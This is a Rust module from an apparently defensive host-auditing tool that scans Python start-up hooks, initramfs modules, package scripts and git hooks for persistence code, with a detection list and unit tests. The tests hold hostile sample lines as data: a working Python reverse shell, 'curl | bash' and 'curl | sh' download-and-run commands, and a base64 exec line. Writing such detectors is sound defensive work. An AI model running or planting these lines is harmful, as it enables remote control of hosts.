//! Code that runs when a program starts or a package changes, outside the usual hook
//! directories: Python start-up hooks (`.pth` import lines, `sitecustomize.py`,
//! `usercustomize.py`), dracut and initramfs-tools modules, the maintainer scripts of installed
//! packages (dpkg `info/*.postinst` ..., rpm scriptlets) and git hooks inside repositories.
//! The survey behind the list is `docs/persistence-coverage.md`.
//!
//! What a line does is decided by the shared classifier ([`ferret_core::command::classify`]);
//! Python lines are given to it as the `python3 -c` body they are, and every string literal in
//! them as a shell command. Which files a package shipped, and whether they still hold what
//! it shipped, comes from `ferret-baseline`'s package index, built once per run and only when
//! a file needs it. Every directory is listed a bounded number of times: version-named Python
//! directories are enumerated one level deep, git repositories searched to a fixed depth and
//! count.

mod git;
mod packages;
mod python;

pub use git::{MAX_GIT_DEPTH, MAX_GIT_DIRS, MAX_GIT_REPOS};
pub use python::{pth_import_lines, MAX_PER_DIR, MAX_VERSIONS};

use super::hooks::{Hit, MAX_EVIDENCE};
use crate::util::pb;
use ferret_baseline::pkg::{index_root, IndexOptions, PackageIndex};
use ferret_core::command::{classify, CommandKind, Kinds};
use ferret_core::{Control, Evidence, Finding, HostRoot, Outcome, Severity};
use std::path::Path;

/// The package index of the root, read on first use (most hosts need it for no file here).
pub(super) struct Packages<'a> {
    root: &'a HostRoot,
    control: &'a Control,
    index: Option<PackageIndex>,
}

/// What the package database says about one file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Owned {
    /// No package lists it (or the root has no package database: see [`Packages::known`]).
    No,
    /// A package lists it and its content is what the package recorded, or no digest is
    /// recorded (dpkg conffiles).
    Yes(String),
    /// A package lists it and its content differs from the recorded digest.
    Changed(String),
}

impl<'a> Packages<'a> {
    pub(super) fn new(root: &'a HostRoot, control: &'a Control) -> Self {
        Packages {
            root,
            control,
            index: None,
        }
    }

    fn index(&mut self, out: &mut Outcome) -> &PackageIndex {
        let (root, control) = (self.root, self.control);
        self.index.get_or_insert_with(|| {
            let rep = index_root(root, &IndexOptions::default(), control);
            out.errors.extend(rep.errors);
            rep.index
        })
    }

    /// Whether the root has a package database at all (without one, nothing is "unowned").
    pub(super) fn known(&mut self, out: &mut Outcome) -> bool {
        !self.index(out).is_empty()
    }

    /// Who owns `path` and whether `content` is what was shipped.
    pub(super) fn owned(&mut self, path: &[u8], content: &[u8], out: &mut Outcome) -> Owned {
        let idx = self.index(out);
        let Some(rec) = idx.get(path) else {
            return Owned::No;
        };
        let names: Vec<String> = rec
            .owners
            .iter()
            .filter_map(|o| idx.package_name(*o))
            .map(ferret_core::escape::escape)
            .collect();
        let names = names.join(", ");
        match rec.digest {
            Some(d) if !d.matches(content) => Owned::Changed(names),
            _ => Owned::Yes(names),
        }
    }
}

/// The kinds that make a start-up hook, a package script or a git hook malicious: code fetched
/// or decoded and run, a shell to the network, a program run from a temporary place, or
/// persistence written elsewhere (an SSH key, a cron job, `ld.so.preload`).
const PERSISTENCE_KINDS: [CommandKind; 7] = [
    CommandKind::DownloadExecute,
    CommandKind::DecodeExecute,
    CommandKind::ReverseShell,
    CommandKind::TempExecution,
    CommandKind::SshKeyAdd,
    CommandKind::ScheduledTask,
    CommandKind::PreloadHijack,
];

/// The persistence kinds among `k`.
fn relevant(k: Kinds) -> Kinds {
    k.iter().filter(|x| PERSISTENCE_KINDS.contains(x)).collect()
}

/// The kinds of one Python source line: the line as `python3 -c` code, and each string
/// literal in it as a shell command (`os.system("curl ... | sh")`).
pub(super) fn python_kinds(line: &[u8]) -> Kinds {
    let mut cmd = b"python3 -c '".to_vec();
    for &c in line {
        if c == b'\'' {
            cmd.extend_from_slice(b"'\\''");
        } else {
            cmd.push(c);
        }
    }
    cmd.push(b'\'');
    let mut k = classify(&cmd);
    for s in string_literals(line) {
        k.extend(classify(s));
    }
    k
}

/// The contents of the single- and double-quoted string literals of a Python line (escapes
/// left as written; a literal left open runs to the end of the line).
fn string_literals(line: &[u8]) -> Vec<&[u8]> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = line.get(i) {
        if c == b'#' {
            break;
        }
        if c == b'\'' || c == b'"' {
            let start = i + 1;
            let mut j = start;
            while let Some(&d) = line.get(j) {
                if d == b'\\' {
                    j += 2;
                    continue;
                }
                if d == c {
                    break;
                }
                j += 1;
            }
            let end = j.min(line.len());
            if let Some(s) = line.get(start..end) {
                if s.len() > 3 {
                    out.push(s);
                }
            }
            i = end + 1;
        } else {
            i += 1;
        }
    }
    out
}

/// The shell lines of a script joined across backslash continuations: (first line, text).
/// Comment and blank lines are left out.
pub(super) fn logical_lines(buf: &[u8]) -> Vec<(u64, Vec<u8>)> {
    let mut out = Vec::new();
    let mut cur: Option<(u64, Vec<u8>)> = None;
    for (i, raw) in buf.split(|&c| c == b'\n').enumerate() {
        let n = i as u64 + 1;
        let t = raw.trim_ascii();
        let (first, mut text) = cur.take().unwrap_or((n, Vec::new()));
        if text.is_empty() && (t.is_empty() || t.first() == Some(&b'#')) {
            continue;
        }
        if let Some(body) = t.strip_suffix(b"\\") {
            text.extend_from_slice(body);
            text.push(b' ');
            // a continuation never grows past the classifier's input
            if text.len() < ferret_core::command::MAX_INPUT {
                cur = Some((first, text));
                continue;
            }
        } else {
            text.extend_from_slice(t);
        }
        out.push((first, text));
    }
    if let Some(last) = cur {
        out.push(last);
    }
    out
}

/// Why a set of persistence kinds is bad, as evidence reasons.
fn reasons(k: Kinds) -> Vec<&'static str> {
    relevant(k).iter().map(CommandKind::title).collect()
}

/// The severity of a set of persistence kinds (critical for code run from the network).
fn severity(k: Kinds) -> Severity {
    relevant(k).max_severity().unwrap_or(Severity::Info)
}

/// Suspicious lines of a shell script (continuations joined).
pub(super) fn shell_hits(buf: &[u8]) -> (Vec<Hit>, Kinds) {
    shell_hits_except(buf, &[])
}

/// [`shell_hits`], leaving out the kinds in `ignore`.
pub(super) fn shell_hits_except(buf: &[u8], ignore: &[CommandKind]) -> (Vec<Hit>, Kinds) {
    let mut all = Kinds::empty();
    let mut hits = Vec::new();
    for (line, text) in logical_lines(buf) {
        let k: Kinds = relevant(classify(&text))
            .iter()
            .filter(|k| !ignore.contains(k))
            .collect();
        if !k.is_empty() {
            all.extend(k);
            hits.push(Hit {
                line,
                text,
                reasons: reasons(k),
            });
        }
    }
    (hits, all)
}

/// Suspicious lines of Python source (each line through [`python_kinds`]); blank lines and
/// lines starting with one of `comments` are passed over.
pub(super) fn python_hits(buf: &[u8], comments: &[&[u8]]) -> (Vec<Hit>, Kinds) {
    let mut all = Kinds::empty();
    let mut hits = Vec::new();
    for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
        let t = l.trim_ascii();
        if t.is_empty() || comments.iter().any(|c| t.starts_with(c)) {
            continue;
        }
        let k = relevant(python_kinds(t));
        if !k.is_empty() {
            all.extend(k);
            hits.push(Hit {
                line: i as u64 + 1,
                text: t.to_vec(),
                reasons: reasons(k),
            });
        }
    }
    (hits, all)
}

/// A finding about one file: `what` describes the problem; the hits are its evidence lines.
#[allow(clippy::too_many_arguments)] // one place builds every finding of this module
pub(super) fn finding(
    id: &str,
    severity: Severity,
    title: &str,
    subject: &[u8],
    evidence_path: &Path,
    detail: String,
    attack: &[&str],
    hits: &[Hit],
) -> Finding {
    let mut f = Finding::new(id, severity, title, subject)
        .with_detail(detail)
        .with_remediation(
            "Preserve the file and what it runs, identify the payload, then remove the hook.",
        );
    for a in attack {
        f = f.with_attack(*a);
    }
    if hits.is_empty() {
        f = f.with_evidence(Evidence::file(pb(evidence_path)));
    }
    for h in hits.iter().take(MAX_EVIDENCE) {
        f = f.with_evidence(Evidence::line(pb(evidence_path), h.line).with_excerpt(&h.text));
    }
    f
}

/// The reasons of hits, deduplicated, for a detail text.
fn hit_reasons(hits: &[Hit]) -> String {
    let mut r: Vec<&str> = hits.iter().flat_map(|h| h.reasons.clone()).collect();
    r.sort_unstable();
    r.dedup();
    r.join("; ")
}

/// Runs every check of this module (between them, `control` may cancel).
pub(super) fn audit(
    root: &HostRoot,
    accounts: &crate::accounts::Accounts,
    control: &Control,
    out: &mut Outcome,
) {
    let mut pkgs = Packages::new(root, control);
    python::audit(root, accounts, &mut pkgs, out);
    if crate::util::cancelled(control, out) {
        return;
    }
    packages::audit_initramfs(root, &mut pkgs, out);
    if crate::util::cancelled(control, out) {
        return;
    }
    packages::audit_scripts(root, control, out);
    if crate::util::cancelled(control, out) {
        return;
    }
    git::audit(root, accounts, control, out);
    // a search cancelled inside says so
    crate::util::cancelled(control, out);
}

/// The fuzz entry of this module's parsers: `.pth` lines, the stock-line test, Python and
/// shell line classification; what they return lies inside the input.
pub(crate) fn fuzz(data: &[u8]) {
    let lines = data.split(|&c| c == b'\n' || c == b'\r').count() as u64;
    for (n, l) in pth_import_lines(data) {
        assert!(n >= 1 && n <= lines && l.len() <= data.len());
        let _ = python::stock_import_line(l);
        let _ = python_kinds(l);
    }
    for (n, l) in logical_lines(data) {
        assert!(n >= 1 && n <= lines);
        assert!(l.len() <= data.len() + lines as usize);
    }
    let _ = shell_hits(data);
    let mut s = ferret_baseline::pkg::rpm::Scriptlet::default();
    s.interpreter = b"<lua>".to_vec();
    s.body = data.to_vec();
    for h in packages::scriptlet_hits(&s).0 {
        assert!(h.line >= 1 && h.line <= lines && h.text.len() <= data.len());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_lines() {
        let rs = b"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])";
        assert!(python_kinds(rs).contains(CommandKind::ReverseShell));
        let dl = b"import os; os.system('curl -fsSL http://203.0.113.7/x.sh | bash')";
        assert!(python_kinds(dl).contains(CommandKind::DownloadExecute));
        let b64 = b"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))";
        assert!(python_kinds(b64).contains(CommandKind::DecodeExecute));
        assert!(relevant(python_kinds(b"import _virtualenv")).is_empty());
        assert!(relevant(python_kinds(b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ")).is_empty());
    }

    #[test]
    fn continuations() {
        let s = b"#!/bin/sh\nset -e\n\ncurl -fsSL \\\n  http://x/y.sh | sh\n# c\necho done\n";
        let v = logical_lines(s);
        assert_eq!(v.len(), 3, "{v:?}");
        assert_eq!(v[1].0, 4);
        assert!(classify(&v[1].1).contains(CommandKind::DownloadExecute));
        assert_eq!(
            string_literals(b"x('abcd', \"d\\\"ef\") # 'zzzz'"),
            vec![&b"abcd"[..], &b"d\\\"ef"[..]]
        );
    }
}
